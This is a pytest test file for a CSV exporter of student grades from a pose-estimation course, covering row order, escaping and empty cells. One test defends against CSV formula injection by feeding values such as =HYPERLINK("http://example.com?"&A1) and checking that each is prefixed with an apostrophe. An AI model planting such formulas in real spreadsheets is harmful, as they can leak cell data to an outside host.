import csv

import pytest

from grading.grades_csv import write_grades_csv
from grading.stored_grade import SCORED_WITH_BREACHES
from tests.grading.made_grades import made_course, made_grade

HEADER = (
    "student,verdict,breaches,warnings,pixel_error,head_px,right_wrist_px,left_wrist_px,right_elbow_px,left_elbow_px,"
    "right_shoulder_px,left_shoulder_px,within_5_px,within_10_px,mean_pose_error_px,seconds,peak_megabytes,"
    "tensorflow_version,weights_sha256"
)


def written_rows(path, grades):
    assert write_grades_csv(path, grades) == path
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_each_student_has_a_row_in_the_given_order(tmp_path):
    grades = made_course()
    rows = written_rows(tmp_path / "grades.csv", grades)
    assert [row["student"] for row in rows] == [grade.student for grade in grades]
    assert (tmp_path / "grades.csv").read_text(encoding="utf-8").splitlines()[0] == HEADER
    assert [path.name for path in tmp_path.iterdir()] == ["grades.csv"]


def test_a_row_has_all_values_of_a_grade(tmp_path):
    lines = {"breaches": ("one, two", 'a "third"'), "warnings": ("line\nend",)}
    grade = made_grade("Łukasz", 3.25, verdict=SCORED_WITH_BREACHES, weights_sha256="ab" * 32, **lines)
    (row,) = written_rows(tmp_path / "grades.csv", [grade])
    assert list(row.values()) == (
        ["Łukasz", "scored, with breaches", 'one, two | a "third"', "line\nend", "3.2500"]
        + ["0.2500", "1.2500", "2.2500", "3.2500", "4.2500", "5.2500", "6.2500"]
        + ["0.5000", "0.8750", "14.5000", "61.5", "812.5", "1.15.0", "ab" * 32]
    )


def test_unknown_values_are_empty_cells(tmp_path):
    grade = made_grade("noa", None, peak_megabytes=None, tensorflow_version=None)
    (row,) = written_rows(tmp_path / "grades.csv", [grade])
    assert {name: cell for name, cell in row.items() if cell} == {
        "student": "noa",
        "verdict": "not scored",
        "seconds": "61.5",
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(tmp_path, start):
    text = f'{start}HYPERLINK("http://example.com?"&A1)'
    texts = {"breaches": (text,), "warnings": (text,), "tensorflow_version": text, "weights_sha256": text}
    (row,) = written_rows(tmp_path / "grades.csv", [made_grade(text, **texts)])
    for column in ("student", *texts):
        assert row[column] == f"'{text}"


def test_other_texts_and_negative_numbers_are_unchanged(tmp_path):
    (row,) = written_rows(tmp_path / "grades.csv", [made_grade("a-b=c@d", -0.5)])
    assert (row["student"], row["pixel_error"]) == ("a-b=c@d", "-0.5000")
